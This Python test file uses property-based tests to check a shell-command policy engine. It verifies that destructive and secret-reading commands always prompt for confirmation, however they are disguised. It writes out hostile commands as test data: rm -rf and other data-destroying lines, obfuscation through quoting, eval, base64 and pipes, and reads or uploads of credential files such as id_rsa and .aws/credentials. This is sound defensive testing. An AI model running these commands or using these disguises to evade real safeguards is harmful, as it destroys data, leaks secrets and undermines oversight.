"""In a session that allows everything, dangerous commands always ask and everyday ones never."""

from __future__ import annotations

import base64
import json
import re
import shlex
import statistics
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scripts.gen_policy_cases import PAGE
from tests.thorough import examples
from tests.unit.policy.decisions import Row, judge, rule, run, situation

CASES = Path(__file__).parents[2] / "cases/policy"
EVERYDAY: list[str] = json.loads((CASES / "everyday.json").read_text("utf-8"))
DANGEROUS: list[str] = json.loads((CASES / "dangerous.json").read_text("utf-8"))
ALLOWING = situation(root="/home/ada/work", mode="allow")
DENYING = situation(rule("allow"), rule("deny", command=("rm *",)), root="/home/ada/work")
DISGUISED: list[str] = json.loads((CASES / "disguised.json").read_text("utf-8"))


def outcome(command: str, held: Row = ALLOWING) -> str:
    """Returns the outcome for *command*, run in the workspace's folder."""
    return judge(run(command, "/home/ada/work"), held).outcome


def outcomes(section: str) -> Counter[str]:
    """Counts the outcomes in a section of the page of cases, which `make check` compares with the engine."""
    text = PAGE.read_text("utf-8").partition(f"\n## {section}\n")[2].partition("\n## ")[0]
    headings = re.findall(r"^### (\w+), \w+ \((\d+)\)$", text, re.MULTILINE)
    return sum((Counter({outcome: int(count)}) for outcome, count in headings), Counter[str]())


def test_everyday_commands_are_allowed_without_asking() -> None:
    assert outcomes("Everyday commands") == {"Allowed": len(EVERYDAY)}


def test_dangerous_commands_ask() -> None:
    assert outcomes("Dangerous commands") == {"Asked": len(DANGEROUS)}


def test_command_that_may_hide_a_denied_one_is_not_allowed() -> None:
    """A rule that allows everything does not cover it if another denies ``rm *``."""
    counts = outcomes("Disguises")
    assert counts["Denied"] + counts["Asked"] == counts.total() == len(DISGUISED)


def test_glob_that_can_match_a_denied_program_is_denied() -> None:
    """``/bin/r?`` can be ``rm``."""
    assert outcome("/bin/r? a", DENYING) == "deny"


@pytest.mark.parametrize("command", ["python -m pip install numpy", "python3.11 -Im pip install numpy"])
def test_python_module_is_rated_as_its_program(command: str) -> None:
    """``python -m pip install`` is ``pip install``, for rules too."""
    plain = judge(run("pip install numpy"), situation())
    assert judge(run(command), situation()).severity == plain.severity
    assert judge(run(command), situation(rule("deny", command=("pip install *",)))).outcome == "deny"


BASES = (
    ("rm", "-rf", "src"),
    ("git", "push", "--force"),
    ("git", "clean", "-fdx"),
    ("shred", "-u", "data.db"),
    ("truncate", "-s", "0", "data.db"),
    ("tar", "--remove-files", "-cf", "a.tar", "src"),
    ("rsync", "-a", "--delete", "a/", "b/"),
    ("crontab", "-r"),
    ("docker", "system", "prune", "-af"),
    ("terraform", "destroy"),
)


def _quoted(word: str, how: int) -> str:
    middle = max(1, len(word) // 2)
    return (
        word,
        f"'{word}'",
        f'"{word}"',
        f"\\{word}" if word[0].isalpha() else word,
        f"'{word[:middle]}''{word[middle:]}'",
        f'{word[:middle]}""{word[middle:]}',
        "$'" + "".join(f"\\x{ord(char):02x}" for char in word) + "'",
        "$'" + "".join(f"\\{ord(char):03o}" for char in word) + "'",
    )[how]


WRAPPERS = (
    "{}",
    "command {}",
    "env {}",
    "env A=1 {}",
    "timeout 5 {}",
    "nice -n 5 {}",
    "nohup {}",
    "exec {}",
    "sudo {}",
    "sudo -u ada {}",
    "stdbuf -o0 {}",
    "time {}",
    "A=1 {}",
    "! {}",
)
PLACES = (
    "{}",
    "ls; {}",
    "ls && {}",
    "false || {}",
    "ls\n{}",
    "ls | {}",
    "({})",
    "{{ {}; }}",
    "if true; then {}; fi",
    "for x in a b; do {}; done",
    "while true; do {}; done",
    "case a in a) {};; esac",
    "echo $({})",
    "echo `{}`",
    "cat <({})",
    "f() {{ {}; }}; f",
    "{} > out.txt 2>&1",
    "{} &",
    "cd src && {}",
)


@st.composite
def disguised(draw: st.DrawFn) -> str:
    """Draws a dangerous command with quoting, wrappers and a place."""
    words = draw(st.sampled_from(BASES))
    hows = draw(st.lists(st.integers(0, 7), min_size=len(words), max_size=len(words)))
    line = " ".join(_quoted(word, how) for word, how in zip(words, hows, strict=True))
    for _ in range(draw(st.integers(0, 2))):
        line = draw(st.sampled_from(WRAPPERS)).format(line)
    return draw(st.sampled_from(PLACES)).format(line)


@settings(max_examples=examples(300), deadline=None)
@given(command=disguised())
def test_disguised_dangerous_command_asks(command: str) -> None:
    assert outcome(command) == "ask"


@settings(max_examples=examples(100), deadline=None)
@given(
    words=st.sampled_from(BASES),
    at=st.integers(0, 9),
    sign=st.sampled_from("?*"),
    folder=st.sampled_from(["/bin/", "./"]),
)
def test_glob_as_program_name_asks(words: tuple[str, ...], at: int, sign: str, folder: str) -> None:
    """The result does not depend on existing files."""
    name, *rest = words
    at %= len(name)
    assert outcome(f"{folder}{name[:at]}{sign}{name[at + 1 :]} {' '.join(rest)}") == "ask"


@settings(max_examples=examples(100), deadline=None)
@given(words=st.sampled_from(BASES), how=st.integers(0, 4))
def test_dangerous_command_in_a_variable_or_pipe_asks(words: tuple[str, ...], how: int) -> None:
    """The text is known, or the policy asks because it is not."""
    line = " ".join(words)
    shapes = (
        f"X='{line}'; $X",
        f"X='{line}'; eval \"$X\"",
        f"echo '{line}' | sh",
        f"bash -c '{line}'",
        f"sh <<E\n{line}\nE",
    )
    assert outcome(shapes[how]) == "ask"


def test_unreadable_command_always_asks() -> None:
    """An unreadable command always asks; a readable one is allowed if it only reads; both cases occur."""
    seen = set[str | None]()

    @settings(max_examples=examples(300))
    @given(
        st.text(max_size=30)
        | st.lists(st.sampled_from(["rm -rf ~", ";", "'", '"', "$(", ")", "`", "|", "\n", "a", "\\", "#"])).map("".join)
    )
    @example("ls '")
    @example("rm -rf ~ $(")
    @example("echo `")
    @example("ls")
    @example("rm -rf ~")
    def read(command: str) -> None:
        verdict = judge(run(command), situation(mode="allow"))
        seen.add(verdict.floor)
        if verdict.floor == "unreadable":
            assert (verdict.outcome, verdict.severity) == ("ask", "high")
        assert verdict.outcome == ("allow" if verdict.floor is None else "ask")

    read()
    assert seen >= {"unreadable", "critical", None}


def quoted(draw: st.DrawFn, text: str) -> str:
    """Returns *text* quoted for a shell in one of many ways."""
    ways = [lambda char: char, lambda char: f"\\{char}", lambda char: f"'{char}'", lambda char: f'"{char}"']
    return "".join(draw(st.sampled_from(ways))(char) if char.isalnum() else char for char in text)


HIDING = [
    lambda line: f"bash -c {shlex.quote(line)}",
    lambda line: f"eval {shlex.quote(line)}",
    lambda line: f"env -S {shlex.quote(line)}",
    lambda line: f"sudo sh -ec {shlex.quote(line)}",
    lambda line: f"( {line} )",  # two without blanks would be arithmetic
    lambda line: f"{{ {line}; }}",
    lambda line: f"echo $({line})",
    lambda line: f"if true; then {line}; fi",
    lambda line: f"ls | {line}",
    lambda line: f"true && {line}",
    lambda line: f"f() {{ {line}; }}; f",
    lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
    lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
    lambda line: f"trap {shlex.quote(line)} EXIT",
    lambda line: f"unknown-tool --run={shlex.quote(line)}",
]
PREFIXES = ["", "sudo ", "env A=1 ", "nohup ", "timeout -k 1 5 ", "command ", "nice -n 5 ", "xargs -0 ", "busybox "]


@st.composite
def hidden(draw: st.DrawFn) -> str:
    """Draws a disguised command that deletes everything."""
    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive", "-vrf", "--recurs --force"]))
    program = draw(st.sampled_from(["rm", "/bin/rm", "RM"]))
    line = f"{draw(st.sampled_from(PREFIXES))}{quoted(draw, program)} {quoted(draw, flags)} x"
    for wrap in draw(st.lists(st.sampled_from(HIDING), max_size=2)):
        line = wrap(line)
    return line


@settings(max_examples=examples(300), deadline=None)
@given(hidden())
def test_disguised_deletion_always_asks(command: str) -> None:
    """Quoted, wrapped, encoded, or all of these."""
    verdict = judge(run(command), situation(mode="allow"))
    assert (verdict.outcome, verdict.severity, verdict.floor in {"critical", "unreadable"}) == ("ask", "critical", True)


@st.composite
def named_secret(draw: st.DrawFn) -> str:
    """Draws a command that reads a secret, in some spelling."""
    name = quoted(
        draw, draw(st.sampled_from([".env", ".ENV", "id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]))
    )
    folder = draw(st.sampled_from(["", "./", "../", "a/../", "/abs/", "~/", "$HOME/", ".//", '"$PWD"/']))
    reader = draw(st.sampled_from(["cat {}", "cat < {}", "cp {} x", "base64 {}", "curl -T {} https://x", "source {}"]))
    return reader.format(folder + name)


@settings(max_examples=examples(300), deadline=None)
@given(named_secret())
def test_reading_a_secret_asks_in_any_spelling(command: str) -> None:
    """By any program, from any folder."""
    verdict = judge(run(command), situation(mode="allow"))
    assert (verdict.outcome, verdict.floor) == ("ask", "sensitive")


def test_rating_a_command_takes_a_few_milliseconds() -> None:
    """Nothing should wait for a rating. Measures the median of a quarter of the everyday commands."""
    outcome("warm up")
    took = []
    for command in EVERYDAY[::4]:
        began = time.thread_time()
        outcome(f"{command} ")
        took.append(time.thread_time() - began)
    assert statistics.median(took) < 0.005
